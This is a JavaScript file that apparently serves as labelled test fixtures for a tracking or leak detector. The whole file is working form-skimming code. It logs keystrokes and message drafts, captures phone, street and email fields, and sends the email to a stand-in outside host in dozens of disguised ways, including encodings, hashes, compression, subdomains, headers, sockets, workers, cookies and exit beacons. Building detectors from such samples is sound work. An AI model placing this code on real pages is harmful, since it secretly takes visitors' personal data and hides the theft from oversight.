// A reader of fields: each way of reading and writing has a name, and sends once with it. The names are the truth.
(() => {
  const IN = "https://in.reader.test";
  const text = new TextEncoder();
  const post = (x, body) => fetch(`${IN}/t?x=${x}`, { method: "POST", mode: "no-cors", body });
  const get = (x, v) => { new Image().src = `${IN}/t?x=${x}&v=${encodeURIComponent(v)}`; };
  const bytes = (s) => text.encode(s);
  const b64 = (b) => btoa(String.fromCharCode(...new Uint8Array(b)));
  const hex = (b) => [...new Uint8Array(b)].map((c) => c.toString(16).padStart(2, "0")).join("");
  const sha = (of, s) => crypto.subtle.digest(of, bytes(s));
  const pack = (of, s) => new Response(new Blob([s]).stream().pipeThrough(new CompressionStream(of))).arrayBuffer();
  const rot13 = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= "Z" ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));
  const socket = new WebSocket("wss://in.reader.test/socket");
  const worker = new Worker(URL.createObjectURL(new Blob([
    `onmessage = (e) => fetch("${IN}/t?x=worker", { method: "POST", mode: "no-cors", body: e.data });`,
  ])));
  let email = "";

  // While it is typed.
  document.addEventListener("keydown", (e) => {
    if (e.target.name === "first_name" && e.key.length === 1) {
      post("key-by-key", JSON.stringify({ events: [{ type: "key", k: e.key, at: Date.now() }] }));
    }
  }, true);
  document.addEventListener("input", (e) => {
    if (e.target.name === "message") post("as-typed", JSON.stringify({ draft: e.target.value }));
  }, true);

  document.addEventListener("change", async (e) => {
    const v = e.target.value, name = e.target.name;
    if (name === "phone") {
      get("e164-digest", hex(await sha("SHA-256", "+1" + v.replace(/\D/g, ""))));
    } else if (name === "street") {
      get("street-lower", v.toLowerCase().replaceAll(" ", ""));
    } else if (name === "email") {
      email = v;
      get("plain", v);
      get("base64", btoa(v));
      get("base64url", btoa(v).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", ""));
      get("hex", hex(bytes(v)));
      get("reverse", [...v].reverse().join(""));
      get("rot13", rot13(v));
      get("upper", v.toUpperCase());
      get("local-part", v.split("@")[0]);
      get("sha1", hex(await sha("SHA-1", v)));
      get("sha256", hex(await sha("SHA-256", v.trim().toLowerCase())));
      get("sha256-base64", b64(await sha("SHA-256", v)));
      get("sha256-upper", hex(await sha("SHA-256", v)).toUpperCase());
      get("sha512", hex(await sha("SHA-512", v)));
      get("sha256-of-base64", hex(await sha("SHA-256", btoa(v))));
      get("sha256-of-sha1", hex(await sha("SHA-256", hex(await sha("SHA-1", v)))));
      get("base64-json", btoa(JSON.stringify({ user: { mail: v } })));
      get("nested", JSON.stringify({ d: btoa(JSON.stringify({ inner: JSON.stringify({ m: v }) })) }));
      post("escaped", `{"m":"${v.replace("@", "\\u0040")}"}`);
      post("gzip", await pack("gzip", JSON.stringify({ m: v })));
      post("deflate-raw", await pack("deflate-raw", JSON.stringify({ m: v, padding: "abcabcabc".repeat(20) })));
      post("gzip-base64", JSON.stringify({ p: b64(await pack("gzip", JSON.stringify([{ m: v }]))) }));
      post("raw-digest", await sha("SHA-256", v));
      post("protobuf", new Uint8Array([8, 150, 1, 18, v.length, ...bytes(v), 255]));
      const form = new FormData();
      form.append("contact", v);
      post("multipart", form);
      new Image().src = `${IN}/t/path/${encodeURIComponent(v)}/p.gif?x=path`;
      new Image().src = `https://${hex(bytes(v.slice(0, 20)))}.sub.reader.test/t?x=subdomain`;
      fetch(`${IN}/t?x=header`, { headers: { "x-visitor": btoa(v) } }).catch(() => {});
      fetch(`/t?x=first-party`, { method: "POST", body: v });
      worker.postMessage(JSON.stringify({ m: v }));
      socket.send(JSON.stringify({ x: "socket", m: v }));
      document.cookie = `seen=${btoa(v)}; path=/`;
      setTimeout(() => fetch("/t?x=cookie"), 50);
      const late = v;
      setTimeout(() => get("late", late), 3000);
    }
  }, true);
  addEventListener("pagehide", () => navigator.sendBeacon(`${IN}/t?x=beacon`, JSON.stringify({ m: email })));
})();
